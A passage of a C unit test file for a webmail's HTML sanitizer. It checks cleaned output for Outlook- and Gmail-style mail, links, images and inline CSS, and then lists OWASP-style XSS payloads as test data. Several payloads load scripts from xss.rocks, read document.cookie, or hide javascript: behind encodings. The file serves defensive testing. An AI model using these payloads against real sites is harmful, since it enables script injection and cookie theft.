/* test_html_sanitize: the webmail's HTML sanitizer (mime/html_sanitize.c).
 *
 *   - exact outputs for ordinary mail HTML (Outlook- and Gmail-shaped
 *     messages, tables, lists, entities, unclosed and misnested tags,
 *     nested quotes), cid and remote images, the style filter;
 *   - XSS vectors (the OWASP filter evasion cheat sheet's and more): each
 *     output passes tests/fuzz/html_sanitize_invariants.h (allowlisted
 *     tags and attributes, no on*, every value quoted, href/src schemes,
 *     balanced) and holds no "<script", "javascript:", "<iframe", ...;
 *   - bounds: nesting depth, the output bound, callback errors, every
 *     prefix of a message (the input ending anywhere);
 *   - sanitizing the output again changes nothing (where no image URL was
 *     rewritten);
 *   - every text/html part of the MIME corpora under $TERN_SHARED/testdata
 *     (one "SKIPPED: test_html_sanitize: ..." line without them);
 *   - a throughput figure in MB/s (printed; not a pass/fail check). */
#include "mime/html_sanitize.h"
#include "mime/html_sanitize_int.h"
#include "mime/mime.h"
#include "tests/fuzz/html_sanitize_invariants.h"
#include "tests/unit/check.h"

#include <errno.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define CID_PREFIX "/jmap/download/A1/"

/* ---- helpers -------------------------------------------------------------- */

struct cid_ctx {
	char last[256];
	int calls;
};

/* logo@x and a@b resolve; "big" answers 1 MB; "fail" fails; the rest are
 * unknown. */
static int test_cid(void *vctx, const char *id, size_t len, struct buf *url)
{
	struct cid_ctx *c = vctx;
	if (c) {
		snprintf(c->last, sizeof c->last, "%.*s", (int)len, id);
		c->calls++;
	}
	if ((len == 6 && memcmp(id, "logo@x", 6) == 0) || (len == 3 && memcmp(id, "a@b", 3) == 0))
		return buf_adds(url, CID_PREFIX "B42.3/x?accept=image/png") ? -ENOMEM : 1;
	if (len == 3 && memcmp(id, "big", 3) == 0) {
		for (int i = 0; i < 1024; i++)
			if (buf_printf(url, "%01024d", i))
				return -ENOMEM;
		return 1;
	}
	if (len == 4 && memcmp(id, "fail", 4) == 0)
		return -EIO;
	return 0;
}

static struct cid_ctx cid_ctx;
static const struct html_sanitize_opts opts = {.cid_url = test_cid, .ctx = &cid_ctx};

/* The sanitized in[0..len) as a malloc'd string (NULL on error, rc in *rcp). */
static char *san_n(const char *in, size_t len, unsigned *found, int *rcp)
{
	struct buf b = {0};
	unsigned f = 0;
	int rc = html_sanitize(in, len, &opts, &b, &f);
	if (found)
		*found = f;
	if (rcp)
		*rcp = rc;
	if (rc) {
		buf_free(&b);
		return NULL;
	}
	return buf_take(&b);
}

static char *san(const char *in, unsigned *found)
{
	return san_n(in, strlen(in), found, NULL);
}

/* Sanitizing out again gives out. */
static void check_idempotent(const char *out, const char *what)
{
	char *again = san(out, NULL);
	CHECK(again && strcmp(again, out) == 0, "not idempotent: %s\n  once:  %s\n  twice: %s",
	      what, out, again ? again : "(error)");
	free(again);
}

static void check_output(const char *out, size_t len, const char *what)
{
	const char *why = hsi_check(out, len, CID_PREFIX);
	CHECK(why == NULL, "%s: %s\n  output: %.300s", what, why ? why : "", out);
}

#define EXPECT(in, want) expect(__LINE__, in, want, true)
#define EXPECT_NOT_IDEMPOTENT(in, want) expect(__LINE__, in, want, false)

static void expect(int line, const char *in, const char *want, bool idempotent)
{
	char *got = san(in, NULL);
	CHECK(got && strcmp(got, want) == 0, "(from line %d) input: %s\n  want: %s\n  got:  %s",
	      line, in, want, got ? got : "(error)");
	if (got) {
		check_output(got, strlen(got), in);
		if (idempotent)
			check_idempotent(got, in);
	}
	free(got);
}

/* ---- exact outputs ---------------------------------------------------------- */

static void test_tables(void)
{
	CHECK_THAT(html_charref_table_sorted());
	CHECK_THAT(html_css_table_sorted());
	CHECK_THAT(html_sanitize_tables_sorted());
}

static void test_text_and_entities(void)
{
	EXPECT("", "");
	EXPECT("plain text", "plain text");
	EXPECT("a < b > c", "a &lt; b &gt; c");
	EXPECT("<3 and 1<2", "&lt;3 and 1&lt;2");
	EXPECT("AT&T & co", "AT&amp;T &amp; co");
	EXPECT("&lt;&gt;&amp;&quot;&apos;&#39;&#x41;&#X42;&#67", "&lt;&gt;&amp;\"''ABC");
	EXPECT("&copy; &nbsp;&euro;&hellip;&mdash;&zwnj;",
	       "\xC2\xA9 \xC2\xA0\xE2\x82\xAC\xE2\x80\xA6"
	       "\xE2\x80\x94\xE2\x80\x8C");
	/* Legacy names without ';' in text; unknown names are left as they are. */
	EXPECT("&copy2026 &amp &ltx", "\xC2\xA9"
	                              "2026 &amp; &lt;x");
	EXPECT("&bogus; &x; &;", "&bogus; &x; &amp;;");
	/* Numeric references: 0, surrogates, too large: U+FFFD; 0x80-0x9F: cp1252. */
	EXPECT("&#0;&#xD800;&#x110000;&#99999999999;",
	       "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");
	EXPECT("&#128;&#x92;", "\xE2\x82\xAC\xE2\x80\x99");
	EXPECT("&#; &#x; &#xZ", "&amp;#; &amp;#x; &amp;#xZ");
	/* Control characters dropped (a decoded one too), tab/LF/CR kept. */
	EXPECT("a\x01"
	       "b\x7f"
	       "c\td\ne\r&#1;f",
	       "abc\td\ne\rf");
	/* Ill-formed UTF-8 becomes U+FFFD; good UTF-8 is kept. */
	EXPECT("\xff\xc3\xa9\xe2\x82", "\xEF\xBF\xBD\xC3\xA9\xEF\xBF\xBD\xEF\xBF\xBD");
	EXPECT("\xed\xa0\x80", "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");
	char *nul = san_n("a\0b", 3, NULL, NULL);
	CHECK(nul && strcmp(nul, "ab") == 0, "NUL not dropped: %s", nul ? nul : "(error)");
	free(nul);
}

static void test_markup(void)
{
	EXPECT("<b>bold</b> <I>it</I> <u>u</u>", "<b>bold</b> <i>it</i> <u>u</u>");
	EXPECT("<P ALIGN=center>x", "<p align=\"center\">x</p>");
	EXPECT("<div><b>x", "<div><b>x</b></div>");
	EXPECT("<b><i>x</b>y</i>", "<b><i>x</i></b>y");
	EXPECT("</b>x</div>", "x");
	EXPECT("<p>a<p>b<div>c</div>", "<p>a</p><p>b</p><div>c</div>");
	EXPECT("<ul><li>a<li>b<ol><li>c<li>d</ol></ul>",
	       "<ul><li>a</li><li>b<ol><li>c</li><li>d</li></ol></li></ul>");
	EXPECT("<dl><dt>t<dd>d<dt>u</dl>", "<dl><dt>t</dt><dd>d</dd><dt>u</dt></dl>");
	EXPECT("<table><tr><td>a<td>b<tr><td>c</table>",
	       "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>");
	EXPECT("<table border=0 cellpadding=\"2\" cellspacing='0' width=\"100%\"><tbody><tr>"
	       "<th colspan=2 align=left>H</th></tr><tr><td valign=top rowspan=1 nowrap>a</td>"
	       "<td bgcolor=#ffffff>b</td></tr></tbody></table>",
	       "<table border=\"0\" cellpadding=\"2\" cellspacing=\"0\" width=\"100%\"><tbody><tr>"
	       "<th colspan=\"2\" align=\"left\">H</th></tr><tr><td valign=\"top\" rowspan=\"1\" "
	       "nowrap=\"\">a</td><td bgcolor=\"#ffffff\">b</td></tr></tbody></table>");
	/* An end tag does not close across a table cell. */
	EXPECT("<b><table><tr><td>x</b>y</td></tr></table>z</b>",
	       "<b><table><tr><td>xy</td></tr></table>z</b>");
	EXPECT(
	    "<a href=\"https://a.example/\">1<a href=\"https://b.example/\">2</a>",
	    "<a href=\"https://a.example/\" target=\"_blank\" rel=\"noopener noreferrer\">1</a>"
	    "<a href=\"https://b.example/\" target=\"_blank\" rel=\"noopener noreferrer\">2</a>");
	EXPECT("x<br>y<br/>z</br><hr noshade size=1><wbr>",
	       "x<br>y<br>z<br><hr noshade=\"\" size=\"1\"><wbr>");
	EXPECT("<font face=\"Arial, sans-serif\" size=2 color=\"#333\">t</font>",
	       "<font face=\"Arial, sans-serif\" size=\"2\" color=\"#333\">t</font>");
	EXPECT("<div dir=RTL lang=he>x</div><div dir=evil>y</div>",
	       "<div dir=\"RTL\" lang=\"he\">x</div><div>y</div>");
	/* Attribute syntax: nested quotes, unquoted, none, duplicates, junk. */
	EXPECT("<span title='a \"b\" c'>x</span>", "<span title=\"a &quot;b&quot; c\">x</span>");
	EXPECT("<span title=\"it's <b>\">x</span>", "<span title=\"it's &lt;b&gt;\">x</span>");
	EXPECT("<td width=100% bgcolor=#ffffff>", "<td width=\"100%\" bgcolor=\"#ffffff\"></td>");
	EXPECT("<span title=\"a&amp;b&lt;&#34;\" title=second>x</span>",
	       "<span title=\"a&amp;b&lt;&quot;\">x</span>");
	EXPECT("<span title = spaced >x</span>", "<span title=\"spaced\">x</span>");
	EXPECT("<span title=\"a\"lang=\"en\">x</span>", "<span title=\"a\" lang=\"en\">x</span>");
	EXPECT("<span title=\"&copy=1&copy;\">x</span>",
	       "<span title=\"&amp;copy=1\xC2\xA9\">x</span>");
	EXPECT("<span =x title>x</span>", "<span title=\"\">x</span>");
	/* Unknown and dropped elements: content kept unless it is code. */
	EXPECT("<o:p>a</o:p><custom-el x=1>b</custom-el><form action=x><label>c</label></form>",
	       "abc");
	EXPECT("a<script>alert(1)</script>b<style>p{}</style>c<title>t</title>d", "abcd");
	EXPECT("<svg><text>hidden</text></svg>after", "after");
	EXPECT("<svg><svg></svg>still</svg>after", "after");
	EXPECT("<svg/>after", "after");
	EXPECT("<svg><p>breaks out", "<p>breaks out</p>");
	EXPECT("<object><param name=a><b>fallback</b></object>after", "after");
	EXPECT("<xmp><b>x</b></xmp>", "<pre>&lt;b&gt;x&lt;/b&gt;</pre>");
	EXPECT("<p>a<xmp>b</xmp>c</p>", "<p>a</p><pre>b</pre>c");
	EXPECT("<textarea>&lt;b&gt; <i></textarea>x", "&lt;b&gt; &lt;i&gt;x");
	EXPECT("<plaintext></plaintext><b>", "<pre>&lt;/plaintext&gt;&lt;b&gt;</pre>");
	EXPECT("<script>never closed", "");
	/* Comments, doctype, CDATA, processing instructions: dropped. */
	EXPECT("a<!-- c -->b<!-->c<!--->d<!-- x --!>e<!-- -- -->f", "abcdef");
	EXPECT("a<!-- never closed", "a");
	EXPECT("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\">x<?xml version=\"1.0\"?>y",
	       "xy");
	EXPECT("a<![CDATA[b]]>c", "ac");
	EXPECT("a</>b</ x>c</", "abc&lt;/");
	EXPECT("x<", "x&lt;");
	/* The input ends inside a tag: the tag is dropped. */
	EXPECT("x<a href=\"http://a", "x");
	EXPECT("x<b title=", "x");
	EXPECT("<b>x<i", "<b>x</b>");
}

static void test_mail_shapes(void)
{
	/* Outlook (Word HTML): conditional comments, o:p, MsoNormal, head styles. */
	EXPECT(
	    "<html xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:"
	    "office:office\"><head><meta http-equiv=Content-Type content=\"text/html; "
	    "charset=us-ascii\"><meta name=Generator content=\"Microsoft Word 15\"><style><!--\n"
	    "p.MsoNormal {margin:0cm; font-size:11.0pt;}\n--></style><!--[if gte mso 9]><xml>\n"
	    "<o:shapedefaults v:ext=\"edit\" spidmax=\"1026\" />\n</xml><![endif]--></head>"
	    "<body lang=EN-US link=\"#0563C1\" vlink=\"#954F72\" style='word-wrap:break-word'>"
	    "<div class=WordSection1><p class=MsoNormal>Hi Bob,<o:p></o:p></p><p "
	    "class=MsoNormal><o:p>&nbsp;</o:p></p><p class=MsoNormal "
	    "style='margin-left:36.0pt;mso-line-height-rule:exactly'><span "
	    "style='font-size:10.0pt;font-family:\"Calibri\",sans-serif;color:#1F497D'>"
	    "Thanks<o:p></o:p></span></p></div></body></html>",
	    "<div><p>Hi Bob,</p><p>\xC2\xA0</p><p style=\"margin-left:36.0pt\"><span "
	    "style=\"font-size:10.0pt;font-family:&quot;calibri&quot;,sans-serif;color:#1f497d\">"
	    "Thanks</span></p></div>");
	/* Gmail: dir=ltr divs, the signature and the quote. */
	EXPECT(
	    "<div dir=\"ltr\">Hello<div><br></div><div>-- <br><div dir=\"ltr\" "
	    "class=\"gmail_signature\" data-smartmail=\"gmail_signature\">Sig</div></div></div><br>"
	    "<div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">On Mon, X &lt;<a "
	    "href=\"mailto:x@example.com\">x@example.com</a>&gt; wrote:<br></div><blockquote "
	    "class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid "
	    "rgb(204,204,204);padding-left:1ex\">quoted</blockquote></div>",
	    "<div dir=\"ltr\">Hello<div><br></div><div>-- <br><div "
	    "dir=\"ltr\">Sig</div></div></div>"
	    "<br><div><div dir=\"ltr\">On Mon, X &lt;<a href=\"mailto:x@example.com\" "
	    "target=\"_blank\" rel=\"noopener noreferrer\">x@example.com</a>&gt; wrote:<br></div>"
	    "<blockquote style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid "
	    "rgb(204,204,204);padding-left:1ex\">quoted</blockquote></div>");
	/* A newsletter: layout tables, a tracking pixel, a button link. */
	unsigned f = 0;
	char *out = san("<center><table role=presentation width=600 style=\"max-width:600px\">"
	                "<tr><td align=center><a href=\"https://news.example/c?u=1&amp;l=2\" "
	                "style=\"display:inline-block;padding:10px 20px;background-color:#0b5;"
	                "color:#fff\">Read</a><img src=\"https://t.example/open.gif?id=7\" width=1 "
	                "height=1 alt=\"\"></td></tr></table></center>",
	                &f);
	CHECK(out && strcmp(out, "<center><table width=\"600\" style=\"max-width:600px\"><tr><td "
	                         "align=\"center\"><a href=\"https://news.example/c?u=1&amp;l=2\" "
	                         "style=\"display:inline-block;padding:10px "
	                         "20px;background-color:#0b5;color:#fff\" target=\"_blank\" "
	                         "rel=\"noopener noreferrer\">Read</a><img "
	                         "data-tern-src=\"https://t.example/open.gif?id=7\" width=\"1\" "
	                         "height=\"1\" alt=\"\"></td></tr></table></center>") == 0,
	      "newsletter: %s", out ? out : "(error)");
	CHECK(f == HTML_FOUND_REMOTE_IMAGES, "newsletter flags %u", f);
	free(out);
}

static void test_links(void)
{
	EXPECT("<a href=\"https://e.com/?a=1&amp;b=2#f\">x</a>",
	       "<a href=\"https://e.com/?a=1&amp;b=2#f\" target=\"_blank\" rel=\"noopener "
	       "noreferrer\">x</a>");
	EXPECT("<a href=HTTP://E.COM>x</a>",
	       "<a href=\"HTTP://E.COM\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>");
	EXPECT("<a href=\"mailto:a@b.example?subject=hi%20there\">m</a>",
	       "<a href=\"mailto:a@b.example?subject=hi%20there\" target=\"_blank\" rel=\"noopener "
	       "noreferrer\">m</a>");
	/* A word in a URL is not a scheme (found by fuzz_html_sanitize). */
	EXPECT("<a href=\"https://ok/?q=javascript:x\">j</a>",
	       "<a href=\"https://ok/?q=javascript:x\" target=\"_blank\" rel=\"noopener "
	       "noreferrer\">j</a>");
	EXPECT("<a href=\"#top\">t</a>",
	       "<a href=\"#top\" target=\"_blank\" rel=\"noopener noreferrer\">t</a>");
	/* URL clean-up as browsers do it: outer spaces, tabs and newlines. */
	EXPECT("<a href=\" https://e.com/a\n/b\t \">x</a>",
	       "<a href=\"https://e.com/a/b\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>");
	/* Not absolute http(s)/mailto/#: the href is dropped, the link text kept. */
	EXPECT("<a href=\"/relative\">r</a><a href=\"//host/x\">p</a><a href=\"ftp://h/\">f</a>"
	       "<a href=\"tel:123\">t</a><a href=\"\">e</a><a name=n id=i>n</a>",
	       "<a>r</a><a>p</a><a>f</a><a>t</a><a>e</a><a>n</a>");
	EXPECT("<a href=\"https://ok\" target=_top rel=opener>x</a>",
	       "<a href=\"https://ok\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>");
}

static void test_images(void)
{
	unsigned f;
	char *out;

	memset(&cid_ctx, 0, sizeof cid_ctx);
	out = san("<img src=\"cid:logo@x\" alt=Logo width=\"120\">", &f);
	CHECK(out && strcmp(out, "<img src=\"" CID_PREFIX "B42.3/x?accept=image/png\" alt=\"Logo\" "
	                         "width=\"120\">") == 0,
	      "cid: %s", out ? out : "(error)");
	CHECK(f == HTML_FOUND_CID_IMAGES, "cid flags %u", f);
	CHECK(strcmp(cid_ctx.last, "logo@x") == 0, "callback got %s", cid_ctx.last);
	free(out);

	out = san("<IMG SRC=\"CID:a%40b\">", &f);
	CHECK(out && strcmp(out, "<img src=\"" CID_PREFIX "B42.3/x?accept=image/png\">") == 0,
	      "percent-decoded cid: %s", out ? out : "(error)");
	CHECK(strcmp(cid_ctx.last, "a@b") == 0, "callback got %s", cid_ctx.last);
	free(out);

	out = san("<img src=\"cid:nobody@x\" alt=gone>", &f);
	CHECK(out && strcmp(out, "<img alt=\"gone\">") == 0, "unknown cid: %s",
	      out ? out : "(error)");
	CHECK(f == 0, "unknown cid flags %u", f);
	free(out);

	/* No callback: cid images dropped. */
	struct buf b = {0};
	CHECK_THAT(html_sanitize("<img src=cid:logo@x>", 20, NULL, &b, NULL) == 0);
	CHECK(b.data && strcmp(b.data, "<img>") == 0, "no callback: %s", b.data ? b.data : "");
	buf_free(&b);

	/* Remote images: not loaded, kept for the front end, flagged. */
	out = san("<img src=\"https://t.example/p.gif\" width=1 height=1><img src=http://a/b.png>",
	          &f);
	CHECK(out && strcmp(out, "<img data-tern-src=\"https://t.example/p.gif\" width=\"1\" "
	                         "height=\"1\"><img data-tern-src=\"http://a/b.png\">") == 0,
	      "remote: %s", out ? out : "(error)");
	CHECK(f == HTML_FOUND_REMOTE_IMAGES, "remote flags %u", f);
	free(out);

	/* The user allowed remote images: src stays src, still flagged; a
	 * javascript: src is still dropped. */
	struct html_sanitize_opts load = {.remote_images_src = true};
	unsigned lf = 0;
	static const char remote[] =
	    "<img src=\"https://t.example/p.gif\" onerror=alert(1)><img src=javascript:x>";
	CHECK_THAT(html_sanitize(remote, sizeof remote - 1, &load, &b, &lf) == 0);
	CHECK(b.data && strcmp(b.data, "<img src=\"https://t.example/p.gif\"><img>") == 0,
	      "remote allowed: %s", b.data ? b.data : "");
	CHECK(lf == (HTML_FOUND_REMOTE_IMAGES | HTML_FOUND_DROPPED), "remote allowed flags %u", lf);
	buf_free(&b);

	/* data: images of the four types kept; others dropped. */
	EXPECT("<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img "
	       "src=\"DATA:image/GIF;base64,R0l\">"
	       "<img src=\"data:image/jpeg,x\"><img src=\"data:image/webp;base64,UklG\">",
	       "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img "
	       "src=\"DATA:image/GIF;base64,R0l\">"
	       "<img src=\"data:image/jpeg,x\"><img src=\"data:image/webp;base64,UklG\">");
	out = san("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\"><img src=\"data:text/html,x\">"
	          "<img src=\"data:image/pngx,x\"><img src=\"/local.png\"><img src=\"//h/x.png\">",
	          &f);
	CHECK(out && strcmp(out, "<img><img><img><img><img>") == 0, "bad src: %s", out ? out : "");
	CHECK(f == HTML_FOUND_DROPPED, "bad src flags %u", f);
	free(out);

	/* The first src counts. */
	out = san("<img src=\"http://a/x\" src=\"cid:logo@x\">", &f);
	CHECK(out && strcmp(out, "<img data-tern-src=\"http://a/x\">") == 0, "dup src: %s",
	      out ? out : "");
	free(out);
}

static void test_style(void)
{
	EXPECT("<p style=\"color: Red; position:absolute; background:url(http://x); font-family: "
	       "'Segoe UI', Arial; width:expression(alert(1)); display:none; margin:0 "
	       "!important\">x</p>",
	       "<p style=\"color:red;font-family:'segoe ui', arial;display:none;margin:0 "
	       "!important\">x</p>");
	EXPECT("<span style=\"COLOR:#FF0000;Font-Weight:BOLD\">x</span>",
	       "<span style=\"color:#ff0000;font-weight:bold\">x</span>");
	EXPECT("<span style=\"color:rgb(1,2,3);background-color:rgba(0,0,0,.5);border:1px solid "
	       "hsl(0,0%,50%)\">x</span>",
	       "<span style=\"color:rgb(1,2,3);background-color:rgba(0,0,0,.5);border:1px solid "
	       "hsl(0,0%,50%)\">x</span>");
	/* Dropped: functions other than colours, escapes, comments, at-rules,
	 * quotes outside font names, display values other than the list,
	 * properties not on the list. */
	EXPECT("<span style=\"width:calc(1px + 2px);color:\\72 ed;color:r/**/ed;color:@x;"
	       "color:'red';display:flex;position:fixed;float:left;behavior:url(x.htc);"
	       "background-image:image-set('x' 1x);list-style-image:none;z-index:9\">x</span>",
	       "<span>x</span>");
	EXPECT("<span style=\"font-family:'a;b'; color: blue\">x</span>",
	       "<span style=\"font-family:'a;b';color:blue\">x</span>");
	EXPECT("<span style=\"font-family:'unterminated; color: blue\">x</span>", "<span>x</span>");
	/* Inside a font name's quotes as outside (found by fuzz_html_sanitize). */
	EXPECT("<span style=\"font-family:'a@b';color:red\">x</span>",
	       "<span style=\"color:red\">x</span>");
	EXPECT("<span style=\"font-family:'a/*b'\">x</span>", "<span>x</span>");
	/* Ill-formed UTF-8 is replaced before the checks, so a value is not
	 * judged on fewer bytes than are written (found by fuzz_html_sanitize:
	 * 900 bytes of 0xFF passed the length check and came out as 2700). */
	{
		struct buf in = {0};
		buf_adds(&in, "<div style=\"width:1px;font-family:");
		for (int i = 0; i < 900; i++)
			buf_addc(&in, (char)0xff);
		buf_adds(&in, "\" title=\"\xff\">x</div>");
		char *out = san(in.data, NULL);
		CHECK(out && strcmp(out,
		                    "<div style=\"width:1px\" title=\"\xEF\xBF\xBD\">x</div>") == 0,
		      "long ill-formed style: %.80s", out ? out : "(error)");
		if (out)
			check_idempotent(out, "long ill-formed style");
		free(out);
		buf_free(&in);
	}
	EXPECT("<span style=\";;color:red;;\">x</span>", "<span style=\"color:red\">x</span>");
	EXPECT("<span style=\"color\n:\n red ;  line-height : 1.5\">x</span>",
	       "<span style=\"color:red;line-height:1.5\">x</span>");
	/* References are decoded before the check. */
	EXPECT("<span style=\"color:red&#59;background:u&#114;l(x)\">x</span>",
	       "<span style=\"color:red\">x</span>");
	EXPECT("<div style=\"width:e&#92;xpression(alert(1))\">x</div>", "<div>x</div>");
}

/* ---- XSS vectors ------------------------------------------------------------- */

static const char *const xss_vectors[] = {
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/"
    "[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x "
    "onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#"
    "0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#"
    "0000083&#0000083&#0000039&#0000041\">",
    "<IMG "
    "SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#"
    "116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG "
    "SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#"
    "0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#"
    "0000083&#0000083&#0000039&#0000041>",
    "<IMG "
    "SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#"
    "x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<IMG SRC=\"livescript:[code]\">",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html "
    "base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV "
    "STYLE=\"background-image:\\0075\\0072\\006C\\0028'"
    "\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\00"
    "74\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"http://ha.ckers.org/xss.swf\" AllowScriptAccess=\"always\"></EMBED>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH "
    "A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" "
    "AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML><SPAN "
    "DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import "
    "namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" "
    "to=\"XSS<SCRIPT DEFER>alert(\"XSS\")</SCRIPT>\"></BODY></HTML>",
    "<SCRIPT SRC=\"http://xss.rocks/xss.jpg\"></SCRIPT>",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT "
    "SRC=http://xss.rocks/xss.js></SCRIPT>'\"-->",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<IMG SRC=\"http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
